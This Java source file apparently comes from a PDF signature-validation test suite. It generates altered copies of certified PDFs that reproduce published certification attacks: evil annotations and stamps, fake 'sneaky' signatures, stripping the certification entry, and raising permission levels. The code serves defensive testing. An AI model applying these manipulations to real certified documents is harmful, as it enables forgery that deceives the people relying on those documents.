package vn.certproc.checks.attacks;

import static vn.certproc.checks.attacks.AttackFamily.CERTIFICATION;

import java.util.ArrayList;
import java.util.List;
import java.util.function.BiConsumer;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;

/** A certified document is changed within or beyond what its level allows. */
final class CertificationAttacks {

  private static final String SOURCE =
      "Rohlmann, Mladenov, Mainka, Schwenk: Breaking the Specification. PDF Certification. IEEE S&P"
          + " 2021, ";

  private CertificationAttacks() {}

  static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    levels(all, "evil-annotation", SOURCE + "evil annotation attack", CertificationAttacks::note);
    levels(all, "evil-stamp", SOURCE + "evil annotation attack", CertificationAttacks::stamp);
    levels(
        all,
        "sneaky-signature",
        SOURCE + "sneaky signature attack",
        (v, u) -> FieldChanges.signatureField(v, u, "sneaky", ""));
    levels(
        all,
        "sneaky-signature-with-value",
        SOURCE + "sneaky signature attack",
        CertificationAttacks::sneaky);
    levels(all, "page-content", SOURCE + "permission levels", Graffiti::page);
    levels(all, "certification-lifted", SOURCE + "permission levels", CertificationAttacks::lifted);
    levels(all, "level-raised", SOURCE + "permission levels", CertificationAttacks::raised);
    all.add(Entry.appending("evil-annotation", CERTIFICATION, SOURCE, CertificationAttacks::note));
    all.add(Entry.appending("evil-stamp", CERTIFICATION, SOURCE, CertificationAttacks::stamp));
    all.add(
        Entry.appending(
            "sneaky-signature-with-value", CERTIFICATION, SOURCE, CertificationAttacks::sneaky));
    return all;
  }

  private static void levels(
      List<Attack> all, String id, String source, BiConsumer<Victim, Update> change) {
    for (int level = 1; level <= 3; level++) {
      all.add(Entry.appending(id, CERTIFICATION, source, change).certified(level));
    }
  }

  private static void note(Victim victim, Update update) {
    int note = update.fresh();
    update.object(note, Preparing.note("1000000", Graffiti.look(update)));
    Graffiti.annotation(victim, update, note);
  }

  private static void stamp(Victim victim, Update update) {
    int look = Graffiti.look(update);
    int stamp = update.fresh();
    update.object(
        stamp,
        "<</Type/Annot/Subtype/Stamp/F 4/Rect[100 500 300 600]/AP<</N " + look + " 0 R>>>>");
    Graffiti.annotation(victim, update, stamp);
  }

  /** A signature that nobody can verify, whose look covers the text. */
  private static void sneaky(Victim victim, Update update) {
    int value = update.fresh();
    update.object(
        value,
        "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 10 20 "
            + victim.file().length
            + "]/Contents<"
            + "30030201010000"
            + ">>>");
    FieldChanges.signatureField(victim, update, "sneaky", "/V " + value + " 0 R");
  }

  /** Without the entry the document is no longer certified. */
  private static void lifted(Victim victim, Update update) {
    COSDictionary catalog = new COSDictionary(victim.catalog());
    catalog.removeItem(COSName.PERMS);
    update.object(catalog, victim.catalog());
    note(victim, update);
  }

  private static void raised(Victim victim, Update update) {
    COSDictionary signature = victim.signature();
    COSArray references = signature.getCOSArray(COSName.getPDFName("Reference"));
    COSDictionary reference = new COSDictionary((COSDictionary) references.getObject(0));
    COSDictionary parameters =
        new COSDictionary(reference.getCOSDictionary(COSName.getPDFName("TransformParams")));
    parameters.setInt(COSName.P, 3);
    parameters.setName(COSName.V, "1.2");
    reference.setItem(COSName.getPDFName("TransformParams"), parameters);
    COSArray changed = new COSArray();
    changed.add(reference);
    COSDictionary copy = new COSDictionary(signature);
    copy.setItem(COSName.getPDFName("Reference"), changed);
    update.object(copy, signature);
    note(victim, update);
  }
}
